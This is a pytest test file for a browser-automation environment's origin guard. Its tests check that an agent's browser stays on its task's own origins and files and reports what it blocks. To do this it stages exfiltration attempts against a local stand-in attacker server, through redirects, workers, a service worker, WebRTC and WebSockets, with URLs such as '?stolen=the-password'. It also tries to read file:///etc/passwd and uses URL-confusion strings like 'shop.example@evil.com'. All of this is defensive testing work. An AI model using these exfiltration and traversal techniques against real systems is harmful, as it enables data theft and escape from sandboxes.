"""The origin guard: a task's browser reaches its own origins and nothing else, and says what it blocked."""
from __future__ import annotations

import asyncio
import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from websockets.asyncio.server import serve

from envs.browser import BrowserConfig, BrowserSession
from envs.env import BrowserEnv
from envs.guard import OriginPolicy
from envs.miniwob import MiniWoBTask
from envs.tasks import UrlTask
from tests.pages.page_server import PageServer


@pytest.fixture
def sites() -> Iterator[tuple[PageServer, PageServer]]:
    home, elsewhere = PageServer({}), PageServer({"/": "<title>Elsewhere</title><p>you left</p>"})
    home.pages["/"] = f"""<title>Home</title>
        <a href="{elsewhere.url}/">leave</a>
        <button onclick="fetch('{elsewhere.url}/fetched').then(() => document.title = 'fetched',
                                                            () => document.title = 'fetch failed')">fetch</button>
        <iframe src="{elsewhere.url}/framed"></iframe>
        <a href="{home.url}/second">stay</a>"""
    yield home, elsewhere
    home.close()
    elsewhere.close()


@pytest.fixture(scope="module")
async def session() -> BrowserSession:
    browser = BrowserSession(BrowserConfig(action_timeout_ms=3000, navigation_timeout_ms=5000))
    await browser.start()
    yield browser
    await browser.close()


def _not_framed(blocked_urls: list[str]) -> list[str]:
    # The home page's iframe is blocked each time the page loads (going back reloads it), and a block
    # is reported with the step that sees it land, so it may come with any step.
    return [url for url in blocked_urls if not url.endswith("/framed")]


def _id_of(obs, name: str) -> str:
    return next(e.id for e in obs.elements if e.name == name and e.id)


async def test_other_origins_are_blocked_and_recorded(session, sites):
    home, elsewhere = sites
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{home.url}/", goal="stay"))
    assert elsewhere.hits == []  # the iframe never loaded
    assert [b.url for b in env.guard.blocked] == [f"{elsewhere.url}/framed"]
    assert not env.guard.blocked[0].main_frame

    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'fetch')}')")
    await session.page.wait_for_function("document.title !== 'Home'")
    assert await session.page.title() == "fetch failed"
    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'leave')}')")
    assert elsewhere.hits == []
    assert obs.url == f"{home.url}/" and obs.title == "Home"
    assert _not_framed(info["blocked_urls"]) == [f"{elsewhere.url}/"]
    assert obs.last_action_error and "was blocked" in obs.last_action_error and elsewhere.url in obs.last_action_error
    assert f"{elsewhere.url}/fetched" in [b.url for b in env.guard.blocked]

    obs, _, _, _, info = await env.step(f"goto('{elsewhere.url}/direct')")
    assert obs.url == f"{home.url}/", obs.url
    assert "was blocked" in obs.last_action_error and _not_framed(info["blocked_urls"]) == [f"{elsewhere.url}/direct"]
    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'stay')}')")  # its own origin still works
    assert obs.last_action_error is None and obs.url == f"{home.url}/second" and _not_framed(info["blocked_urls"]) == []
    assert elsewhere.hits == []


@pytest.mark.parametrize("delay_ms", [0, 30, 150, 600])
async def test_a_navigation_blocked_after_its_click_returned_is_still_reported_and_left(session, sites, delay_ms):
    """A page that leaves a moment after the click (a timer): whichever step the block lands in, the
    agent is told, and no observation shows Chromium's error page instead of the site."""
    home, elsewhere = sites
    home.pages["/later"] = (f"<title>Later</title><button onclick=\"setTimeout(() => "
                            f"location.href = '{elsewhere.url}/later', {delay_ms})\">go</button>")
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{home.url}/later", goal="stay"))
    seen = [await env.step(f"click('{_id_of(obs, 'go')}')")]
    await session.page.wait_for_timeout(delay_ms + 300)  # the block has landed by now
    seen.append(await env.step("noop()"))
    assert [o.url for o, *_ in seen] == [f"{home.url}/later"] * 2
    assert sum("was blocked" in (o.last_action_error or "") for o, *_ in seen) == 1
    assert [url for *_, info in seen for url in info["blocked_urls"]] == [f"{elsewhere.url}/later"]
    assert elsewhere.hits == []


async def test_a_popup_to_another_origin_is_blocked(session, sites):
    home, elsewhere = sites
    home.pages["/popup"] = f"""<button onclick="window.open('{elsewhere.url}/popup')">open</button>"""
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{home.url}/popup", goal="stay"))
    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'open')}')")
    assert elsewhere.hits == []
    assert f"{elsewhere.url}/popup" in info["blocked_urls"]


async def test_allow_domain_lets_a_domain_through(session, sites):
    home, elsewhere = sites
    env = BrowserEnv(session, allow_domains=[elsewhere.url])
    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{home.url}/", goal="go"))
    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'leave')}')")
    assert obs.title == "Elsewhere" and obs.last_action_error is None
    assert "/framed" in elsewhere.hits and env.guard.blocked == []


async def test_an_http_task_cannot_open_local_files(session, sites, tmp_path):
    home, _ = sites
    private = tmp_path / "private.html"
    private.write_text("<title>Private</title><p>local file</p>")
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{home.url}/", goal="stay"))
    obs, _, _, _, info = await env.step(f"goto('{private.as_uri()}')")
    assert obs.title == "Home" and "was blocked" in obs.last_action_error
    assert _not_framed(info["blocked_urls"]) == [private.as_uri()]


async def test_a_file_task_may_use_files_but_not_the_network(session, sites, tmp_path):
    _, elsewhere = sites
    second = tmp_path / "second.html"
    second.write_text("<title>Second</title>")
    first = tmp_path / "first.html"
    first.write_text(f'<title>First</title><a href="{second.as_uri()}">next</a><img src="{elsewhere.url}/pixel.png">')
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=str(first), goal="go"))
    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'next')}')")
    assert obs.title == "Second" and obs.last_action_error is None
    assert elsewhere.hits == [] and [b.url for b in env.guard.blocked] == [f"{elsewhere.url}/pixel.png"]


async def test_data_and_blank_pages_are_allowed(session, sites):
    home, _ = sites
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{home.url}/", goal="stay"))
    obs, *_ = await env.step("goto('data:text/html,<title>Data</title>')")
    assert obs.title == "Data" and obs.last_action_error is None
    obs, *_ = await env.step("goto('about:blank')")
    assert obs.url == "about:blank" and obs.last_action_error is None


async def test_downloads_are_off_unless_asked_for(session, sites):
    home, _ = sites
    home.pages["/download"] = """<a href="data:text/plain,hello" download="x.txt">get</a>"""

    async def download_failure() -> str | None:
        env = BrowserEnv(session)
        obs, _ = await env.reset(UrlTask(id="t", start_url=f"{home.url}/download", goal="get"))
        downloads = []
        session.page.on("download", lambda download: downloads.append(download))
        await env.step(f"click('{_id_of(obs, 'get')}')")
        await session.page.wait_for_timeout(300)
        assert downloads, "Playwright reports the download attempt either way"
        return await downloads[0].failure()

    assert "accept_downloads" in (await download_failure() or "")
    session.config.accept_downloads = True  # what --allow-downloads sets
    try:
        assert await download_failure() is None
    finally:
        session.config.accept_downloads = False


def test_policy_decides_from_the_url():
    policy = OriginPolicy.for_task(UrlTask(id="t", start_url="https://shop.example:8443/a |AND| http://forum.test/",
                                           goal=""), allow_domains=["docs.example.org"])
    assert policy.allows("https://shop.example:8443/cart")
    assert not policy.allows("https://shop.example/cart")  # another port is another origin
    assert not policy.allows("http://shop.example:8443/")  # and so is another scheme
    assert policy.allows("http://forum.test:80/x")
    assert policy.allows("https://api.docs.example.org/v1")  # an allowed domain admits its subdomains
    assert not policy.allows("https://evil-docs.example.org/")
    assert not policy.allows("file:///etc/passwd") and not policy.allows("chrome://settings")
    assert policy.allows("data:text/html,x") and policy.allows("about:blank")
    with pytest.raises(ValueError, match="--allow-domain"):
        OriginPolicy().allow_domain("  ")


def test_a_task_can_name_its_own_origins():
    class TwoSites(UrlTask):
        def allowed_origins(self) -> list[str]:
            return ["http://a.test", "http://b.test:8080"]

    policy = OriginPolicy.for_task(TwoSites(id="t", start_url="http://a.test/", goal=""))
    assert policy.allows("http://b.test:8080/x") and not policy.allows("http://c.test/")


def test_the_route_pattern_lets_through_only_what_the_policy_allows() -> None:
    """Requests the pattern does not match skip the guard's check entirely: each must be allowed."""
    policy = OriginPolicy(origins={"http://127.0.0.1:8023", "https://shop.example:443"}, domains={"wiki.org"})
    pattern = policy.unlisted_urls()
    urls = ["http://127.0.0.1:8023/", "http://127.0.0.1:8023?q=1", "http://127.0.0.1:80231/", "http://127.0.0.1:8024/x",
            "https://shop.example/cart", "https://shop.example:443/", "http://shop.example/", "https://SHOP.example/x",
            "https://shop.example.evil.com/", "https://shop.example@evil.com/", "https://en.wiki.org:8443/w",
            "https://wiki.org/", "https://notwiki.org/", "https://wiki.org.evil.com/", "data:text/html,hi", "blob:x",
            "about:blank", "file:///etc/passwd", "ws://127.0.0.1:8023/socket", "javascript:alert(1)"]
    passed = [url for url in urls if not pattern.search(url)]
    assert all(policy.allows(url) for url in passed), [u for u in passed if not policy.allows(u)]
    assert passed == ["http://127.0.0.1:8023/", "http://127.0.0.1:8023?q=1", "https://shop.example/cart",
                      "https://shop.example:443/", "https://SHOP.example/x", "https://en.wiki.org:8443/w",
                      "https://wiki.org/", "data:text/html,hi", "blob:x", "about:blank"]
    anything = OriginPolicy(domains={"*"}).unlisted_urls()
    assert not anything.search("https://anything.example/")
    # Only `allows` can tell which folder a file:// URL reads (symlinks, `..`), so every one reaches it.
    assert anything.search("file:///tmp/page.html") and pattern.search("FILE:///tmp/page.html")


# ------------------------------------------------------------------ what context.route alone misses


@pytest.fixture
def task_and_attacker() -> Iterator[tuple[PageServer, PageServer]]:
    """The task's site and an attacker's server, both on 127.0.0.1, each counting what reached it."""
    site, attacker = PageServer({"/": "<title>Home</title>"}), PageServer({"/": "<title>Attacker</title>"})
    yield site, attacker
    site.close()
    attacker.close()


def _redirect(site: PageServer, to: str, status: int = 302) -> str:
    return f"{site.url}/redirect?{urlencode({'to': to, 'status': status})}"


async def test_a_redirect_away_is_blocked_at_its_hop_and_listed_with_the_url_that_redirected(session,
                                                                                              task_and_attacker):
    site, attacker = task_and_attacker
    stolen = f"{attacker.url}/x?stolen=the-password"
    away = _redirect(site, stolen)
    site.pages["/"] = f'<title>Home</title><a href="{away}">read more</a>'
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))

    obs, _, _, _, info = await env.step(f"goto('{away}')")
    assert info["blocked_urls"] == [f"{stolen} (redirected from {away})"]
    assert obs.url == f"{site.url}/" and obs.title == "Home"  # back where it was, not on an error page
    assert "was blocked" in obs.last_action_error and f"(redirected from {away})" in obs.last_action_error

    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'read more')}')")  # a link that redirects away
    assert info["blocked_urls"] == [f"{stolen} (redirected from {away})"]
    assert obs.url == f"{site.url}/" and "was blocked" in obs.last_action_error
    [link_hop] = env.guard.blocked[1:]
    assert (link_hop.resource_type, link_hop.main_frame) == ("document", True)
    assert attacker.hits == [] and attacker.posts == []


async def test_subresources_redirected_away_reach_nothing(session, task_and_attacker):
    """fetch, an image and a POST through a 307 (which would carry its body along) all stop at the hop."""
    site, attacker = task_and_attacker
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
    fetched, image, posted = (f"{attacker.url}/{name}?data=secret" for name in ("fetched", "image", "posted"))
    outcomes = await session.page.evaluate("""([fetched, image, posted]) => Promise.all([
        fetch(fetched).then(() => 'fetched', () => 'fetch failed'),
        new Promise(done => { const img = new Image(); img.onload = () => done('loaded');
                              img.onerror = () => done('image failed'); img.src = image; }),
        fetch(posted, {method: 'POST', body: 'card=4111111111111111'}).then(() => 'posted', () => 'post failed'),
    ])""", [_redirect(site, fetched), _redirect(site, image), _redirect(site, posted, status=307)])
    assert outcomes == ["fetch failed", "image failed", "post failed"]
    assert attacker.hits == [] and attacker.posts == []
    assert sorted(b.describe() for b in env.guard.blocked) == sorted(
        f"{url} (redirected from {_redirect(site, url, status)})"
        for url, status in [(fetched, 302), (image, 302), (posted, 307)])
    assert site.posts == [f"/redirect?{urlencode({'to': posted, 'status': 307})}"]  # the first hop is the site's own


async def test_a_chain_of_redirects_is_checked_at_every_hop(session, task_and_attacker):
    site, attacker = task_and_attacker
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
    last_hop = _redirect(site, f"{attacker.url}/end")
    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, _redirect(site, last_hop, 307), 301)}')")
    assert info["blocked_urls"] == [f"{attacker.url}/end (redirected from {last_hop})"]
    assert attacker.hits == [] and obs.url == f"{site.url}/"


async def test_redirects_within_the_allowed_origins_still_work(session, task_and_attacker):
    site, attacker = task_and_attacker
    env = BrowserEnv(session, allow_domains=[attacker.url])  # the attacker's server, allowed here
    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="go"))
    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, _redirect(site, '/second'))}')")
    assert obs.url == f"{site.url}/second" and obs.last_action_error is None and info["blocked_urls"] == []
    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, f'{attacker.url}/allowed')}')")
    assert obs.url == f"{attacker.url}/allowed" and obs.last_action_error is None and info["blocked_urls"] == []
    status = await session.page.evaluate("""url => fetch(url, {method: 'POST', body: 'x'}).then(r => r.status)""",
                                         _redirect(attacker, "/form", status=307))
    assert status == 200 and attacker.posts[-1] == "/form"  # the 307 carried the POST on; /form answers 303 to /


async def test_worker_requests_stay_within_the_allowed_origins(session, task_and_attacker):
    """A SharedWorker's requests never reach context.route, and a dedicated worker's redirects neither."""
    site, attacker = task_and_attacker
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
    shared, dedicated = f"{attacker.url}/shared?data=secret", f"{attacker.url}/dedicated?data=secret"
    outcomes = await session.page.evaluate("""async ([shared, dedicated]) => {
        const script = code => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
        const fetching = url => `fetch(${JSON.stringify(url)}).then(() => 'reached', () => 'failed')`;
        const fromShared = new Promise(done => {
            const reply = `onconnect = e => ${fetching(shared)}.then(r => e.ports[0].postMessage(r))`;
            const worker = new SharedWorker(script(reply));
            worker.port.onmessage = e => done(e.data);
        });
        const fromDedicated = new Promise(done => {
            const worker = new Worker(script(`${fetching(dedicated)}.then(r => postMessage(r))`));
            worker.onmessage = e => done(e.data);
        });
        return [await fromShared, await fromDedicated];
    }""", [shared, _redirect(site, dedicated)])
    assert outcomes == ["failed", "failed"] and attacker.hits == []
    assert sorted(b.describe() for b in env.guard.blocked) == [
        f"{dedicated} (redirected from {_redirect(site, dedicated)})", shared]


@pytest.mark.parametrize("url", [" javascript:document.title='ran'", "\tjava\nscript:document.title='ran'",
                                 "JavaScript:document.title='ran'", "\x00 javascript:document.title='ran' \n"])
async def test_goto_reads_the_url_as_the_browser_does(session, task_and_attacker, url):
    site, _ = task_and_attacker
    env = BrowserEnv(session)
    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
    obs, _, _, _, info = await env.step(f"goto({url!r})")
    assert obs.title == "Home" and await session.page.title() == "Home"  # the script never ran
    assert info["blocked_urls"] == ["javascript:document.title='ran'"] and "was blocked" in obs.last_action_error
    obs, _, _, _, info = await env.step("goto('  /second\\n')")  # and the same reading opens an allowed page
    assert obs.url == f"{site.url}/second" and obs.last_action_error is None


SECRET_FILE_TEXT = "root-secret: do-not-leak-7731"


@pytest.fixture
def task_folder(tmp_path):
    """A file task's folder (its page, a sibling page, a symlink out of it) next to a private file."""
    private = tmp_path / "private.txt"
    private.write_text(SECRET_FILE_TEXT)
    folder = tmp_path / "task"
    folder.mkdir()
    (folder / "sibling.html").write_text("<title>Sibling</title>")
    (folder / "link.txt").symlink_to(private)
    (folder / "page.html").write_text("<title>Page</title>")
    (folder / "framing.html").write_text(f'<title>Framing</title><iframe src="{private.as_uri()}"></iframe>')
    return folder, private


async def test_a_file_task_reads_only_its_own_folder(session, task_folder):
    folder, private = task_folder
    env = BrowserEnv(session)
    obs, _ = await env.reset(UrlTask(id="t", start_url=str(folder / "page.html"), goal="read"))
    for outside in [private.as_uri(), (folder / "link.txt").as_uri(), f"{folder.as_uri()}/../private.txt",
                    f"{folder.as_uri()}/%2E%2E/private.txt", "file:///etc/passwd"]:
        obs, _, _, _, info = await env.step(f"goto({outside!r})")
        assert obs.title == "Page" and "was blocked" in obs.last_action_error, outside
        assert len(info["blocked_urls"]) == 1 and SECRET_FILE_TEXT not in str(obs), outside
    obs, _, _, _, info = await env.step(f"goto('{(folder / 'sibling.html').as_uri()}')")
    assert obs.title == "Sibling" and obs.last_action_error is None and info["blocked_urls"] == []
    obs, _, _, _, info = await env.step(f"goto('{(folder / 'framing.html').as_uri()}')")
    assert obs.title == "Framing" and info["blocked_urls"] == [private.as_uri()] and SECRET_FILE_TEXT not in str(obs)


async def test_allow_files_opens_more_of_the_disk(session, task_folder):
    folder, private = task_folder
    env = BrowserEnv(session, allow_files=[private])
    await env.reset(UrlTask(id="t", start_url=str(folder / "sibling.html"), goal="read"))
    obs, _, _, _, info = await env.step(f"goto('{private.as_uri()}')")
    assert SECRET_FILE_TEXT in str(obs) and info["blocked_urls"] == []
    obs, _, _, _, info = await env.step("goto('file:///etc/passwd')")  # only what was allowed
    assert info["blocked_urls"] == ["file:///etc/passwd"]


async def test_a_miniwob_task_reads_its_pages_and_no_other_file(session):
    env = BrowserEnv(session)
    obs, info = await env.reset(MiniWoBTask("click-test", seed=1))
    assert info["goal"] and env.guard.blocked == []  # ../core and ../common load
    obs, _, _, _, info = await env.step("goto('file:///etc/passwd')")
    assert info["blocked_urls"] == ["file:///etc/passwd"] and "root:" not in str(obs)
    assert obs.url == env.task.url


async def test_the_proxy_stops_with_its_context(session, task_and_attacker):
    site, _ = task_and_attacker
    threads_before = threading.active_count()
    for _ in range(3):
        env = BrowserEnv(session)
        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
        await session.close_context()
    deadline = time.monotonic() + 5
    while threading.active_count() > threads_before and time.monotonic() < deadline:
        await asyncio.sleep(0.05)  # a proxy connection's thread ends once the context's sockets close
    assert threading.active_count() <= threads_before


async def test_a_service_worker_reaches_nothing(session, task_and_attacker):
    """A service worker would outlive the page and answer its requests: a guarded context registers
    none, even through another frame's copy of `register`; and one that ran would still go through the proxy."""
    _, attacker = task_and_attacker
    worker = (f"fetch('{attacker.url}/from-worker?data=secret').catch(() => 0);"
              f"self.oninstall = e => e.waitUntil(fetch('{attacker.url}/installed').catch(() => 0));").encode()
    site = PageServer({"/": "<title>Home</title>"}, echoes={"/sw.js": lambda _: ("text/javascript", worker)})
    try:
        env = BrowserEnv(session)
        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
        registered = await session.page.evaluate("""async () => {
            const frame = document.body.appendChild(document.createElement('iframe'));
            const register = frame.contentWindow.ServiceWorkerContainer.prototype.register;
            const registration = await register.call(navigator.serviceWorker, '/sw.js').catch(() => null);
            const worker = registration && (registration.installing || registration.waiting || registration.active);
            if (worker && worker.state !== 'activated')
                await new Promise(done => worker.onstatechange = () => worker.state === 'activated' && done());
            return Boolean(worker);
        }""")
        assert registered is False and attacker.hits == []
    finally:
        site.close()


async def test_webrtc_sends_nothing_past_the_proxy(session, task_and_attacker):
    """STUN over UDP would go straight to the attacker, with no request for the guard to see."""
    site, _ = task_and_attacker
    packets: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(0.1)
        env = BrowserEnv(session)
        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
        gathered = await session.page.evaluate("""port => new Promise(done => {
            const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
            peer.createDataChannel('leak');
            peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done(true);
            peer.createOffer().then(offer => peer.setLocalDescription(offer));
        })""", stun.getsockname()[1])
        with contextlib.suppress(TimeoutError):
            packets.append(stun.recv(2048))
    assert gathered and packets == []


async def test_a_workers_websocket_is_refused_at_the_proxy(session, task_and_attacker):
    """route_web_socket patches pages only; a worker's WebSocket reaches the proxy as a CONNECT tunnel."""
    site, _ = task_and_attacker
    connections: list[str] = []

    async def listen(socket) -> None:
        connections.append(socket.request.path)

    async with serve(listen, "127.0.0.1", 0) as attacker_socket:
        port = attacker_socket.sockets[0].getsockname()[1]
        env = BrowserEnv(session)
        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
        outcome = await session.page.evaluate("""port => new Promise(done => {
            const code = `const socket = new WebSocket('ws://127.0.0.1:${port}/?data=secret');
                          socket.onopen = () => postMessage('open'); socket.onclose = () => postMessage('closed');`;
            const worker = new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
            worker.onmessage = event => done(event.data);
        })""", port)
    assert outcome == "closed" and connections == []
    assert env.blocked_urls() == [f"https://127.0.0.1:{port}"]  # a tunnel shows the proxy only host and port
